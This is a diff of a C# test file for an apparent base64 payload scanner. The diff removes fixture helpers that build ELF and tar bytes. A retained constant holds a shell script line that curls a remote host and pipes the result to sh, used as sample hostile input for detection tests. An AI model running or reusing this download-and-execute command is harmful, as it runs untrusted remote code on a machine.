@@ -19,18 +19,6 @@ namespace B64Hunt.Tests.Decoding
     {
         private const string Script = "#!/bin/sh\ncurl -s http://203.0.113.9/m | sh\n";
 
-        /// <summary>A minimal ELF header: class, byte order, type and machine where readelf finds them.</summary>
-        internal static byte[] Elf(bool is64, bool little, int type, int machine)
-        {
-            var d = new byte[256];
-            d[0] = 0x7f; d[1] = (byte)'E'; d[2] = (byte)'L'; d[3] = (byte)'F';
-            d[4] = (byte)(is64 ? 2 : 1); d[5] = (byte)(little ? 1 : 2); d[6] = 1;
-            if (little) { d[16] = (byte)type; d[18] = (byte)machine; d[19] = (byte)(machine >> 8); }
-            else { d[17] = (byte)type; d[19] = (byte)machine; d[18] = (byte)(machine >> 8); }
-            for (int i = 64; i < d.Length; i++) d[i] = (byte)(i * 7);
-            return d;
-        }
-
         private static byte[] Pe(bool plus, int machine, bool dll)
         {
             var d = new byte[512];
@@ -40,15 +28,6 @@ namespace B64Hunt.Tests.Decoding
             if (dll) d[0x80 + 23] = 0x20;
             d[0x80 + 24] = 0x0b; d[0x80 + 25] = (byte)(plus ? 2 : 1);
             return d;
-        }
-
-        internal static byte[] Tar(params (string Name, byte[] Data)[] members)
-        {
-            var ms = new MemoryStream();
-            using (var writer = new TarWriter(ms, TarEntryFormat.Pax, leaveOpen: true))
-                foreach (var (name, data) in members)
-                    writer.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, name) { DataStream = new MemoryStream(data) });
-            return ms.ToArray();
         }
 
         internal static byte[] Zip(params (string Name, byte[] Data)[] members)
